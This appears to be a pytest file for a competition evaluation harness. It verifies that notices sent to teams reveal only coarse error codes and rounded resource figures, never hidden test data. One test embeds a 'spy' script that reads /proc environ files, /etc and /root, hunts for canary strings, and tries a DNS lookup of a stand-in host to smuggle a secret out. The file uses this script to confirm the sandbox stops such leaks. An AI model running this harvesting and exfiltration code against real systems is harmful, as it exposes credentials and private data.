"""What a team may be told about hidden data: a program that wants to say more finds no way."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import jsonschema_rs
import pytest

from harness.documents.codec import to_plain
from harness.documents.codes import finding
from harness.documents.finding import ChallengeRef, Checked, ValidationReport
from harness.documents.run_record import OutputFile, RunRecord
from harness.evaluation.team_notice import team_notice
from harness.resources import schema_path

RECORD = RunRecord(
    schema_version=1,
    image_id="sha256:" + "0" * 64,
    state="failed",
    fault="submission",
    exit_code=115,
    oom_killed=False,
    wall_s=123.456,
    peak_memory_bytes=1_234_567,
    outputs=(OutputFile("zh/task2.jsonl", 115, "a" * 64),),
    limits={"wall_s": 1000, "memory_bytes": 10_000_000},
    profile_sha256="b" * 64,
    codes=("R_EXIT",),
    warnings=("W_OFFLINE",),
    wanted_host="huggingface.co",
)


def report(*codes: str) -> ValidationReport:
    found = tuple(finding(code, path="'the user is sad'", kind="sad", count=115) for code in codes)
    return ValidationReport(1, "sad", False, found, Checked(), 0, ChallengeRef("x", "y"), "0")


def fits(plain: object) -> bool:
    schema = json.loads(schema_path("team-notice").read_text("utf-8"))
    return bool(jsonschema_rs.validator_for(schema).is_valid(plain))


def test_it_is_codes_and_tenths() -> None:
    plain = to_plain(team_notice(RECORD, report(*["E_OUT_TYPE"] * 12, "W_OUT_EXTRA")))
    assert fits(plain)
    assert {each["code"]: each["times"] for each in plain["codes"]} == {
        "E_OUT_TYPE": "10-99",
        "R_EXIT": "1",
        "W_OFFLINE": "1",
        "W_OUT_EXTRA": "1",
    }
    assert (plain["time_tenths"], plain["memory_tenths"], plain["wanted_host"]) == (2, 2, "huggingface.co")
    text = json.dumps(plain)
    assert [word for word in ("sad", "115", "123", "1234567", "zh/", "a" * 64, "b" * 64) if word in text] == []


@pytest.mark.parametrize("exit_code", [1, 17, 255])
def test_exit_code_size_and_small_differences_of_time_do_not_show(exit_code: int) -> None:
    other = replace(
        RECORD,
        exit_code=exit_code,
        wall_s=199.9,
        peak_memory_bytes=1_999_999,
        outputs=(OutputFile("en/x", 1, "c" * 64),),
    )
    assert team_notice(other, None) == team_notice(RECORD, None)


def test_a_memory_that_nobody_measured_is_not_zero() -> None:
    assert team_notice(replace(RECORD, peak_memory_bytes=None), None).memory_tenths is None


CANARY = "canary-5b1e77d0"
# Reads whatever it can see, says it on every channel that it has, and asks for a host of that name.
SPY = """
import json, os, pathlib, socket, sys
seen = []
for top in ("/proc/self/environ", "/proc/1/environ", "/etc", "/input", "/run", "/home", "/root", "/var", "/tmp"):
    for folder, _, names in os.walk(top) if os.path.isdir(top) else [("", [], [top])]:
        for name in names:
            try:
                seen.append(open(os.path.join(folder, name), "rb").read(4000).decode("utf-8", "replace"))
            except OSError:
                pass
said = " ".join(seen)
found = sorted({word for word in said.replace("\\0", " ").split() if "canary" in word})
print(found, "CANARY FOUND" if found else "nothing", file=sys.stderr)
source, target = pathlib.Path(os.environ["HUMDIAL_INPUT"]), pathlib.Path(os.environ["HUMDIAL_OUTPUT"])
for language in os.environ["HUMDIAL_LANGUAGES"].split(","):
    for task in os.environ["HUMDIAL_TASKS"].split(","):
        (target / language / task).mkdir(parents=True, exist_ok=True)
        lines = (source / language / f"{task}.jsonl").read_text()
        (target / language / f"{task}.jsonl").write_text(lines + json.dumps({"dialogue_id": "SECRET-115", "turns": []}))
        (target / language / task / "SECRET-115.wav").write_text("SECRET-115")
try:
    socket.getaddrinfo("SECRET-115.example.org", 443)
except OSError as error:
    print("curl: (6) Could not resolve host: SECRET-115.example.org", error)
sys.exit(115)
"""


@pytest.mark.engine
def test_canaries_in_every_gold_field_file_and_variable_reach_nobody(
    build_image: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The whole `humdial run` on labelled inputs, with a program that looks for them and shouts."""
    import shutil
    import subprocess
    import sys

    import made

    inputs = tmp_path / "inputs"
    files = made.inputs(audio=True)
    ids = set()
    for path, data in files.items():
        if not path.endswith(".jsonl"):
            continue
        lines = [json.loads(line) for line in data.splitlines()]
        for line in lines:
            ids.add(line["dialogue_id"])
            for turn in line["turns"]:
                turn["text"] = f"{turn['text']} {CANARY}-text"
        files[path] = made.jsonl(lines)
    made.write(inputs, files)
    (tmp_path / "secret.txt").write_text(f"{CANARY}-file")
    monkeypatch.setenv("HUMDIAL_SECRET", f"{CANARY}-environment")
    image = build_image("COPY spy.py /spy.py", 'ENTRYPOINT ["python3", "/spy.py"]', files={"spy.py": SPY})
    limits = tmp_path / "limits.toml"
    limits.write_text(
        "wall_s = 60\nmemory_bytes = 268435456\ncpus = 1.0\noutput_bytes = 8388608\ntmp_bytes = 8388608\n"
    )
    out = tmp_path / "out"
    command = [sys.executable, "-P", "-m", "harness", "run", image, "--inputs", inputs, "--out", out]
    done = subprocess.run([*command, "--limits", limits], capture_output=True, text=True, check=False)
    assert done.returncode == 1, done.stderr
    assert "nothing" in (out / "container.log").read_text()  # it looked, and found none
    notice = (out / "team.json").read_text()
    assert fits(json.loads(notice))
    shown = notice + done.stdout + done.stderr
    assert [word for word in (CANARY, "SECRET", *made.EMOTIONS, *ids) if word in shown] == []
    everything = "".join(
        path.read_text("utf-8", "replace") for path in out.rglob("*") if path.is_file() and path.suffix != ".log"
    )
    assert CANARY not in everything
    assert json.loads(notice)["wanted_host"] == "a host"
    shutil.rmtree(out)
